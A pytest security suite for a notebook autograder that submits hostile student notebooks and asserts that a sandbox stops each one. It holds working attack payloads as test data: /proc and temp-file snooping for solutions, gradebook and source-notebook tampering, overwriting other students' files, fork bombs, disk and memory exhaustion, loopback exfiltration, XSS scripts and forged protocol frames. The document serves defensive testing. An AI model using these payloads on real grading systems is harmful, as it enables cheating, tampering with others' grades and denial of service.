"""A hostile class, graded by the real pipeline: every attack is a real submission.

The class is graded in two passes.  Pass 1 grades the honest students and ``wrong`` (a
softmax mistake, no trick).  Pass 2 grades only the attackers: each has the same softmax
mistake plus one attack.  So after pass 2, for every attack:

(a) the attacker scores exactly what ``wrong`` scores (the trick gains nothing);
(b) every other student's gradebook rows are as pass 1 left them;
(c) no file of the course folder outside the attackers' own outputs changed;
(d) no process any jail started is still running.
"""
import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from nbgrader.api import Gradebook

from nndl.jail import bwrap
from nndl.mistakes import MISTAKES
from nndl.pipeline.autograde import grade_class
from nndl.simulate import filled_notebook, submit
from support import course_copy, secret_lines

pytestmark = pytest.mark.security
A = "w2_numpy_basics"
WRONG = {"softmax": MISTAKES[A]["softmax"]}
LIMITS = """
c.CourseSettings.timeout = 60
c.CourseSettings.cell_timeout = 20
c.CourseSettings.call_timeout = 10
"""
SURVIVOR = "1234.5"  # `sleep 1234.5`: a process an attacker leaves behind, easy to find on the host

# Each attack is appended to the sigmoid solution cell. ROOT is replaced by the course path, so
# the attacker even knows where everything lives; PORT by a listener on the host's loopback.
ATTACKS = {
    # look for the course through /proc (other processes' cwd, open files, environment), then use it
    "proc_snooping": """
import os, glob
found = []
for pid in os.listdir('/proc'):
    for what in ('cwd', 'root'):
        try: found.append(os.readlink(f'/proc/{pid}/{what}'))
        except OSError: pass
    for fd in glob.glob(f'/proc/{pid}/fd/*'):
        try: found.append(os.readlink(fd))
        except OSError: pass
    try: found.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='ignore'))
    except OSError: pass
for place in found + ['ROOT']:
    src = os.path.join(place.split('\\0')[0], 'source', 'w2_numpy_basics', 'w2_numpy_basics.ipynb')
    if os.path.exists(src):
        import json
        for cell in json.load(open(src))['cells']:
            if 'def softmax' in ''.join(cell['source']):
                exec(''.join(cell['source']).replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))
""",
    # read the reference's request or any file another jail or the grader left in a temp folder
    "temp_scan": """
import os
for top in ('/tmp', '/var/tmp', '/dev/shm', 'ROOT/.nndl-cache', '/run'):
    for folder, _, files in os.walk(top):
        for name in files:
            try: text = open(os.path.join(folder, name), errors='ignore').read()
            except OSError: continue
            if 'def softmax' in text:
                start = text.index('def softmax'); exec(text[start:text.index('return', start) + 12])
""",
    # open the gradebook: full manual marks for myself, zero for the others, a corrupt checksum
    "gradebook": """
import sqlite3, os
for path in ('ROOT/gradebook.db', '/submission/../../../gradebook.db'):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 100")
        db.execute("update source_cell set checksum = 'x'")
        db.commit()
    except Exception as error:
        print('gradebook:', type(error).__name__)
""",
    # make the reference agree with my wrong answer; plant code in a hidden-test region
    "rewrite_source": """
import os, json
path = 'ROOT/source/w2_numpy_basics/w2_numpy_basics.ipynb'
try:
    nb = json.load(open(path))
    for cell in nb['cells']:
        cell['source'] = ''.join(cell['source']).replace('axis=1, keepdims=True', 'axis=0, keepdims=True')
        cell['source'] = cell['source'].replace('### END HIDDEN TESTS', 'open("ROOT/pwned", "w")\\n### END HIDDEN TESTS')
    json.dump(nb, open(path, 'w'))
except Exception as error:
    print('source:', type(error).__name__)
""",
    # edit another student's submission and feedback
    "other_students": """
import os
for folder in ('ROOT/submitted/solution', 'ROOT/feedback/solution', 'ROOT/autograded/solution', 'ROOT/release'):
    for top, _, files in os.walk(folder):
        for name in files:
            try: open(os.path.join(top, name), 'w').write('gone')
            except OSError as error: print('other:', type(error).__name__)
""",
    # a detached process that outlives grading and edits the report afterwards
    "detached": """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', 'SURVIVOR'])
    os.kill(os.getpid(), 9)
""",
    # send the course path and the hidden inputs out over the network
    "network": """
import socket
for host in ('127.0.0.1', 'localhost', '10.0.2.2'):
    try:
        s = socket.create_connection((host, PORT), timeout=2); s.sendall(b'ROOT'); s.close()
    except OSError as error:
        print('net:', type(error).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))
except OSError as error:
    print('udp:', type(error).__name__)
""",
    # script in the feedback HTML and the formgrader
    "script_output": """
from IPython.display import HTML, display
print('<script>alert("printed")</script>')
display(HTML('<script>alert("displayed")</script><img src=x onerror=alert("img")>'))
""",
    # as many processes as it can make, each holding on
    "fork_bomb": """
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(25); os.kill(os.getpid(), 9)
        children += 1
except OSError as error:
    print('fork bomb stopped after', children, type(error).__name__)
""",
    # fill the disk
    "disk_fill": """
import os
block = b'x' * (16 * 1024 * 1024)
for target in ('big.bin', '/tmp/big.bin', '/dev/shm/big.bin'):
    try:
        with open(target, 'wb') as f:
            for _ in range(4096): f.write(block)
    except OSError as error:
        print('disk:', target, type(error).__name__)
    finally:
        try: os.remove(target)
        except OSError: pass
""",
    # change the course's data files for everybody after me
    "data_files": """
import os
for top in ('/data', os.environ.get('NNDL_DATA_DIR', '/data')):
    for name in (os.listdir(top) if os.path.isdir(top) else []):
        try: open(os.path.join(top, name), 'ab').write(b'garbage')
        except OSError as error: print('data:', type(error).__name__)
""",
}


# Attacks that kill or starve their own process run in a cell of their own (a notebook that loses
# that cell loses nothing else), so that the attacker still deserves exactly what ``wrong`` gets.
OWN_CELL_ATTACKS = {
    # memory that belongs to no process: memfd files, far beyond the jail's memory limit
    "memfd": """
import os
fds = []
for i in range(40):
    fd = os.memfd_create('x'); os.write(fd, b'x' * (250 * 1024 * 1024)); fds.append(fd)
""",
    # as many busy processes as it may, each in a session of its own (a fair share of CPU each)
    "cpu_hog": """
import os, time
for i in range(60):
    try:
        if os.fork() == 0:
            os.setsid(); start = time.time()
            while time.time() - start < 15: pass
            os.kill(os.getpid(), 9)
    except OSError:
        break
time.sleep(15)
""",
    # script in a markdown cell and in image metadata: runs in the instructor's formgrader otherwise
    "markdown_script": None,
    # say "cells done" early, read the hidden inputs from stdin and smuggle them out in text the grader shows
    "forged_frames": """
import os, io, sys, json, struct
sys.path.insert(0, '/opt/nndl')
import wire
out = int(open('/proc/self/cmdline').read().split('\0')[open('/proc/self/cmdline').read().split('\0').index('--out-fd') + 1])
os.write(out, wire.frame({'type': 'cells_done'}))
try:
    header, probes = wire.read_frame(io.FileIO(0, 'rb', closefd=False))
    text = 'LE' + 'AK' + repr(probes)[:2000]
    print(text)
    os.write(out, wire.frame({'type': 'cell', 'index': 0, 'outputs': [{'output_type': 'stream', 'name': 'stdout', 'text': text}]}))
    bad = struct.pack('>II', 2, 0) + b'{}' + text.encode()
    os.write(out, bad)
except Exception as error:
    print('forged:', type(error).__name__)
""",
}
IMAGE_SCRIPT = ("from IPython.display import display\n"
                "display({'image/png': 'iVBORw0KGgo=', 'text/plain': 'x'}, "
                "metadata={'image/png': {'width': '1 onerror=alert(document.domain)'}}, raw=True)\n")
MARKDOWN_SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script> and $x < 0$ stays'
# hidden inputs passed back in text the grader repeats: dict keys, class names
LEAKY_FUNCTIONS = {
    "leaky_keys": "def softmax(x):\n    return {'LE' + 'AK' + repr(x)[:50]: 1}\n",
    "leaky_class": "def softmax(x):\n    return type('LE' + 'AK' + str(abs(hash(repr(x)))), (), {})()\n",
}


def own_cell(nb, source):
    """``nb`` with a code cell of ``source`` right after its first code cell (the imports)."""
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(source))
    return nb


class Listener(threading.Thread):
    """A TCP and UDP listener on the host's loopback that counts whatever reaches it."""

    def __init__(self):
        super().__init__(daemon=True)
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.tcp.settimeout(0.5)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.5)
        self.received, self.stop = [], False

    def run(self):
        while not self.stop:
            for sock in (self.tcp, self.udp):
                try:
                    if sock is self.tcp:
                        conn, _ = sock.accept()
                        self.received.append(conn.recv(1000))
                        conn.close()
                    else:
                        self.received.append(sock.recv(1000))
                except OSError:
                    pass


def course_files(root, skip_students):
    """sha256 of every file of the course, but the attackers' own outputs and what grading itself rewrites."""
    hashes = {}
    for path in sorted(Path(root).rglob("*")):
        rel = path.relative_to(root)
        if not path.is_file() or rel.parts[0] in ("reports", ".nndl-cache") or rel.name.startswith("gradebook.db"):
            continue
        if rel.parts[0] in ("autograded", "feedback") and rel.parts[1] in skip_students:
            continue
        hashes[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def gradebook_rows(root, students):
    """Every grade, comment and recorded source cell of ``students`` and of the release."""
    with Gradebook("sqlite:///" + str(Path(root) / "gradebook.db")) as gb:
        rows = {}
        for student in students:
            nb = gb.find_submission_notebook(A, A, student)
            rows[student] = sorted((g.name, g.auto_score, g.manual_score, g.extra_credit) for g in nb.grades)
            rows[student + ":comments"] = sorted((c.name, c.auto_comment, c.manual_comment) for c in nb.comments)
        rows["release"] = sorted((c.name, c.checksum, c.source) for c in gb.find_notebook(A, A).source_cells)
    return rows


def scores_of(root, student):
    with Gradebook("sqlite:///" + str(Path(root) / "gradebook.db")) as gb:
        return {g.name: g.score for g in gb.find_submission_notebook(A, A, student).grades}


def survivors():
    found = []
    for proc in psutil.process_iter(["cmdline", "uids"]):
        try:
            cmd, uids = proc.info["cmdline"] or [], proc.info["uids"]
        except psutil.Error:
            continue
        if SURVIVOR in cmd or (uids and uids.real >= bwrap.UID_BASE) or any("inside.py" in c for c in cmd):
            found.append((proc.pid, cmd))
    return found


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    root = course_copy(tmp_path_factory.mktemp("course"), [A], extra_config=LIMITS)
    honest = {"solution": filled_notebook(root, A), "wrong": filled_notebook(root, A, mistakes=WRONG),
              "blank": filled_notebook(root, A, blank=True)}
    for student, nb in honest.items():
        submit(root, student, A, nb)
    grade_class(root, workers=2)
    before_rows = gradebook_rows(root, honest)
    listener = Listener()
    listener.start()
    for name, code in ATTACKS.items():
        code = code.replace("ROOT", str(root)).replace("PORT", str(listener.port)).replace("SURVIVOR", SURVIVOR)
        submit(root, name, A, filled_notebook(root, A, mistakes=WRONG, extra_code={"sigmoid": code}))
    for name, code in OWN_CELL_ATTACKS.items():
        nb = filled_notebook(root, A, mistakes=WRONG)
        if name == "markdown_script":
            nb = own_cell(nb, IMAGE_SCRIPT)
            nb.cells.insert(1, nbformat.v4.new_markdown_cell(MARKDOWN_SCRIPT))
        else:
            nb = own_cell(nb, code)
        submit(root, name, A, nb)
    for name, code in LEAKY_FUNCTIONS.items():
        submit(root, name, A, filled_notebook(root, A, mistakes={"softmax": code}))
    submit(root, "honest_neighbour", A, filled_notebook(root, A))  # graded beside the attackers
    before_files = course_files(root, set(ATTACKERS) | {"honest_neighbour"})
    start = time.monotonic()
    jobs = [(name, A) for name in [*ATTACKERS, "honest_neighbour"]]
    outcomes = {o.student: o for o in grade_class(root, jobs=jobs, workers=2)}
    seconds = time.monotonic() - start
    time.sleep(1)
    listener.stop = True
    yield {"root": root, "honest": honest, "rows": before_rows, "files": before_files, "outcomes": outcomes,
           "listener": listener, "seconds": seconds, "survivors": survivors()}


ATTACKERS = sorted(ATTACKS) + sorted(OWN_CELL_ATTACKS) + sorted(LEAKY_FUNCTIONS)


@pytest.mark.parametrize("attack", sorted(ATTACKS) + sorted(OWN_CELL_ATTACKS))
def test_the_attacker_scores_what_the_same_wrong_code_scores(hostile_class, attack):
    root = hostile_class["root"]
    assert scores_of(root, attack) == scores_of(root, "wrong"), hostile_class["outcomes"][attack].problems


def test_a_student_graded_beside_the_attackers_still_gets_full_marks(hostile_class):
    root = hostile_class["root"]
    assert scores_of(root, "honest_neighbour") == scores_of(root, "solution")


@pytest.mark.parametrize("attack", sorted(LEAKY_FUNCTIONS) + ["forged_frames"])
def test_hidden_inputs_never_reach_the_feedback(hostile_class, attack):
    root = hostile_class["root"]
    page = (root / "feedback" / attack / A / f"{A}.html").read_text()
    report = (root / "autograded" / attack / A / f"{A}.grading.json").read_text()
    assert "LEAK" not in page and "LEAK" not in report and "LEAK" not in " ".join(map(str, hostile_class["outcomes"][attack].problems))
    assert "checks passed" in page


def test_script_in_markdown_or_image_metadata_never_reaches_a_browser(hostile_class):
    root = hostile_class["root"]
    page = (root / "feedback" / "markdown_script" / A / f"{A}.html").read_text()
    assert "<script>alert(2)" not in page and "onerror" not in page.split("<body")[1].replace("&lt;", "")
    assert "$x \\lt  0$ stays" in page  # the maths still reads x < 0
    nb = nbformat.read(root / "autograded" / "markdown_script" / A / f"{A}.ipynb", as_version=4)
    images = [o for c in nb.cells for o in c.get("outputs", []) if "image/png" in o.get("data", {})]
    assert images and all(o.metadata == {} for o in images)


def test_no_other_students_grade_or_the_release_record_changed(hostile_class):
    assert gradebook_rows(hostile_class["root"], hostile_class["honest"]) == hostile_class["rows"]


def test_no_course_file_outside_the_attackers_own_outputs_changed(hostile_class):
    after = course_files(hostile_class["root"], set(ATTACKERS) | {"honest_neighbour"})
    changed = {k for k in after.keys() | hostile_class["files"].keys() if after.get(k) != hostile_class["files"].get(k)}
    assert not changed
    assert not (hostile_class["root"] / "pwned").exists()


@pytest.mark.parametrize("student", ["fork_bomb", "memfd", "honest_neighbour"])
def test_every_submission_really_ran_in_a_jail(hostile_class, student):
    """No silent fallback: the grading report of each submission says it was jailed (and, as root,
    held by a control group)."""
    report = json.loads((hostile_class["root"] / "autograded" / student / A / f"{A}.grading.json").read_text())
    assert report["isolated"] is True
    if os.geteuid() == 0:
        assert report["contained"] is True


def test_no_process_of_any_jail_is_left_running(hostile_class):
    assert hostile_class["survivors"] == []


def test_nothing_reached_the_network(hostile_class):
    assert hostile_class["listener"].received == []


def test_the_data_files_are_read_only_for_students(hostile_class):
    page = autograded(hostile_class, "data_files")
    if os.environ.get("NNDL_DATA_DIR"):
        assert "data: OSError" in page or "data: PermissionError" in page


def test_limits_held_and_say_so(hostile_class):
    assert "fork bomb stopped after" in autograded(hostile_class, "fork_bomb")
    disk = autograded(hostile_class, "disk_fill")
    assert "disk: big.bin OSError" in disk and "disk: /tmp/big.bin OSError" in disk


def test_student_script_never_reaches_the_feedback_html(hostile_class):
    page = (hostile_class["root"] / "feedback" / "script_output" / A / f"{A}.html").read_text()
    assert "checks passed" in page
    assert '<script>alert("printed")' not in page and '<script>alert("displayed")' not in page
    assert "<img src=x onerror" not in page and "&lt;script&gt;" in page  # shown as text, never run


def autograded(hostile_class, student):
    nb = nbformat.read(hostile_class["root"] / "autograded" / student / A / f"{A}.ipynb", as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells])


def test_the_jail_is_really_used(tmp_path):
    """Not a silent fallback: student code sees its own user, host name, pid namespace and no course."""
    assert bwrap.availability() == "", bwrap.availability()
    from nndl.jail.run import run_notebook

    probe = ("import os, json\nprint(json.dumps({'uid': os.getuid(), 'host': os.uname().nodename, "
             "'pids': len([p for p in os.listdir('/proc') if p.isdigit()]), 'root': sorted(os.listdir('/')), "
             "'nnp': [l for l in open('/proc/self/status') if l.startswith('NoNewPrivs')][0].split()[1]}))")
    run = run_notebook([{"kind": "code", "index": 0, "source": probe}], {}, tmp_path)
    seen = json.loads(run.cells[0].outputs[0]["text"])
    assert run.isolated and seen["uid"] != os.getuid() and seen["host"] == "jail" and seen["nnp"] == "1"
    assert seen["pids"] <= 3  # bwrap's init, python (and nothing of the host)
    assert not {"gradebook.db", "source", "submitted", "release", "autograded"} & set(seen["root"])


def test_no_secret_of_any_assignment_is_readable_inside_a_jail(tmp_path):
    """Walk every file a jail can read (but the system's /usr): no hidden-test line, no course file,
    no part of the course's catalogue of mistakes (it holds solution fragments)."""
    from nndl.course import assignments
    from nndl.jail.run import run_notebook

    secrets = set()
    for name in assignments():
        secrets |= {line for line in secret_lines(name, kinds=("hidden",)) if "case(" in line or "grade" in line}
    secrets.add("The catalogue of typical mistakes, per assignment and graded function")  # notebooks/mistakes.toml
    walk = ("import os\nhits, names = [], []\nfor folder, dirs, files in os.walk('/'):\n"
            "    if folder.startswith(('/proc', '/sys', '/dev', '/usr')):\n        dirs[:] = []; continue\n"
            "    for name in files:\n        path = os.path.join(folder, name)\n        names.append(path)\n"
            "        try:\n            if name.endswith(('.py', '.ipynb', '.json', '.txt', '.db', '.md', '.pth')):\n"
            "                hits.append((path, open(path, errors='ignore').read()))\n        except OSError:\n"
            "            pass\n")
    check = (f"secrets = {sorted(secrets)!r}\n"
             f"courses = {assignments()!r}\n"
             "print([(p, [s for s in secrets if s in t]) for p, t in hits if any(s in t for s in secrets)] + "
             "[p for p in names if 'site-packages' not in p and (p.endswith(('gradebook.db', 'mistakes.toml', "
             "'.grading.json')) or any(c in p for c in courses))])")
    run = run_notebook([{"kind": "code", "index": 0, "source": walk}, {"kind": "code", "index": 1, "source": check}],
                       {}, tmp_path, cell_seconds=120, budget=240)
    assert run.cells[1].outputs[0]["text"].strip() == "[]", run.cells[1].outputs


def runs_a_notebook(process):
    """Whether ``process`` is a jail's notebook, past its setup: the jail's program as the jail's own user
    (not bwrap, not a template jail or its helpers, which are root; False for one that is gone)."""
    try:
        return process.name() != "bwrap" and any("inside.py" in part for part in process.cmdline()) \
            and process.uids().real != 0 \
            and process.status() != psutil.STATUS_ZOMBIE
    except psutil.Error:
        return False


def test_kill_9_of_nndl_grade_leaves_no_worker_or_jail_running(tmp_path):
    import signal
    import subprocess
    import sys

    root = course_copy(tmp_path, [A], extra_config=LIMITS)
    for i in range(2):
        submit(root, f"slow{i}", A, own_cell(filled_notebook(root, A), "import time\ntime.sleep(50)"))
    grader = subprocess.Popen([sys.executable, "-m", "nndl.cli", "--root", str(root), "grade"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    family = []
    try:
        for _ in range(240):  # wait (at most 2 minutes) until both students' notebooks run (in their sleep)
            time.sleep(0.5)
            family = psutil.Process(grader.pid).children(recursive=True)
            if (root / "reports" / "grading.log").exists() and sum(map(runs_a_notebook, family)) >= 2:
                break
        else:
            pytest.fail("the jails never started")
    finally:
        grader.send_signal(signal.SIGKILL)
        grader.wait()
    deadline = time.monotonic() + 15
    alive = family
    while alive and time.monotonic() < deadline:
        time.sleep(0.5)
        alive = [p for p in family if _alive(p)]
    assert alive == [], [p.pid for p in alive]


def _alive(process):
    try:
        return process.is_running() and process.status() != psutil.STATUS_ZOMBIE
    except psutil.Error:
        return False
